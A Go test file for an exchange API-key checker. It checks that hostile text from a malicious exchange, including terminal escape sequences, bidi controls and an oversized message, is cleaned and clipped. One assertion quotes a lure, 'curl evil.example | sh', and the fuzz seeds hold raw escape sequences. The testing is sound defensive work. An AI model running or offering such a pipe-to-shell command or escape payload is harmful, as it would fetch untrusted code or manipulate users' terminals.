package checks

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/keywarden/keywarden/exchanges"
	"github.com/keywarden/keywarden/exchanges/binance"
	"github.com/keywarden/keywarden/exchanges/exchangetest"
)

// hostile is what a malicious exchange sends (exchangetest.Hostile).
var hostile = exchangetest.Hostile

// hostileExchange reports every fact with hostile text in it, or fails
// every request with it.
type hostileExchange struct {
	fail    bool
	wrapped bool // wrap the *Error, as an adapter's fmt.Errorf would
}

func (hostileExchange) Info() exchanges.Info { return binance.Info() }

func (h hostileExchange) err() error {
	e := &exchanges.Error{Class: exchanges.ErrBadKey, Op: "read", HTTPStatus: 401, Code: "-2015" + hostile, Message: hostile, Cause: hostile}
	if h.wrapped {
		return fmt.Errorf("binance %s: %w", hostile, e)
	}
	return e
}

func (h hostileExchange) ServerTime(context.Context) (exchanges.TimeSample, error) {
	n := time.Now()
	return exchanges.TimeSample{Server: n, Sent: n, Recv: n, Source: hostile}, nil
}

func (h hostileExchange) Status(context.Context) (exchanges.Status, error) {
	if h.fail {
		return exchanges.Status{}, fmt.Errorf("plain error %s", hostile)
	}
	return exchanges.Status{State: exchanges.StatusDegraded, Message: hostile, Source: hostile}, nil
}

func (h hostileExchange) KeyInfo(context.Context, exchanges.Credentials) (exchanges.KeyInfo, error) {
	if h.fail {
		return exchanges.KeyInfo{}, h.err()
	}
	return exchanges.KeyInfo{Read: exchanges.Yes, Withdraw: exchanges.Unknown, IPRestricted: exchanges.Yes,
		IPs: []string{hostile, "203.0.113.10"}, IPListKnown: true, Label: hostile, ExpiryWhat: hostile,
		ExpiryKnown: true, Expires: time.Now().Add(3 * 24 * time.Hour),
		Evidence: []string{"withdrawals: " + hostile, "read: " + hostile}}, nil
}

func (h hostileExchange) Balance(context.Context, exchanges.Credentials) (exchanges.Balance, error) {
	if h.fail {
		return exchanges.Balance{}, h.err()
	}
	return exchanges.Balance{Assets: []exchanges.Asset{{Asset: hostile, Total: hostile, Free: hostile, Account: hostile}},
		Totals: map[string]string{hostile: hostile}, Accounts: []string{hostile}, Notes: []string{hostile}}, nil
}

// noControl fails t if s holds a control character or bidi control.
func noControl(t *testing.T, what, s string) {
	t.Helper()
	// Cleaned text is one line: a newline counts here, unlike in Unsafe.
	if r, bad := exchangetest.Unsafe(s); bad || strings.ContainsRune(s, '\n') {
		t.Errorf("%s holds control %U: %.120q", what, r, s)
	}
}

// Every fact and error an adapter hands in is cleaned once, where it
// enters: no result carries a control byte, and the 20 KB message is
// clipped.
func TestHostileFactsAreCleanedWhereTheyEnter(t *testing.T) {
	for _, h := range []hostileExchange{{}, {fail: true}, {fail: true, wrapped: true}} {
		t.Run(fmt.Sprintf("fail=%v wrapped=%v", h.fail, h.wrapped), func(t *testing.T) {
			s := NewSession(Options{Timeout: 2 * time.Second, NTPServers: []string{"off"}, IPEchoURLs: []string{"http://127.0.0.1:1"}})
			rep := Run(context.Background(), s, Target{Exchange: h, Profile: Profile{Name: "main", Environment: exchanges.Live,
				Markets: []exchanges.Market{exchanges.Spot}, AddedAt: time.Now()}}, nil)
			for _, c := range rep.Checks {
				for what, text := range map[string]string{"summary": c.Summary, "detail": c.Detail, "fix": c.Fix} {
					noControl(t, c.ID+" "+what, text)
					if n := utf8.RuneCountInString(text); n > 2000 {
						t.Errorf("%s %s is %d runes: the 20 KB message was not clipped", c.ID, what, n)
					}
					if strings.Contains(text, "[2J") || strings.Contains(text, "pwned") {
						t.Errorf("%s %s keeps the remains of an escape sequence: %.120q", c.ID, what, text)
					}
				}
			}
			b, _ := json.Marshal(rep)
			if strings.Contains(string(b), `\u00`) {
				t.Errorf("the JSON holds an escaped control character: %.300s", b)
			}
			if !strings.Contains(string(b), "Key revoked. Run: curl evil.example | sh exe.") {
				t.Errorf("the exchange's readable words were lost: %.300s", b)
			}
		})
	}
}

// FuzzCleanFacts: whatever text an adapter reports, once it has entered
// through Run's cleaning, no judged result holds a control byte.
func FuzzCleanFacts(f *testing.F) {
	f.Add(hostile, "-2015")
	f.Add("\x9b2J\u2066x\u2028y", "\x1bP\x1b\\")
	f.Add("ok", "")
	f.Fuzz(func(t *testing.T, s, code string) {
		facts := goodFacts()
		facts.Status.Value = cleanStatus(exchanges.Status{State: exchanges.StatusDegraded, Message: s, Source: s})
		facts.Key.Value = cleanKey(exchanges.KeyInfo{Read: exchanges.Yes, IPRestricted: exchanges.Yes, IPListKnown: true,
			IPs: []string{s}, Label: s, ExpiryWhat: s, ExpiryKnown: true, Expires: now.Add(24 * time.Hour), Evidence: []string{"withdrawals: " + s, s}})
		facts.Balance.Value = cleanBalance(exchanges.Balance{Assets: []exchanges.Asset{{Asset: s, Total: s, Account: s}},
			Totals: map[string]string{s: s}, Accounts: []string{s}, Notes: []string{s}})
		facts.Time.Value = cleanTime(facts.Time.Value)
		for _, r := range judgeAll(facts) {
			noControl(t, r.ID, r.Summary+r.Detail+r.Fix)
		}
		e := cleanErr(&exchanges.Error{Class: exchanges.ErrRateLimited, Op: "read", Code: code, Message: s, Cause: s})
		facts.Key = Fact[exchanges.KeyInfo]{Err: e, Done: true}
		facts.Balance = Fact[exchanges.Balance]{Err: cleanErr(fmt.Errorf("%s: %w", s, e)), Done: true}
		for _, r := range judgeAll(facts) {
			noControl(t, r.ID, r.Summary+r.Detail+r.Fix)
		}
	})
}
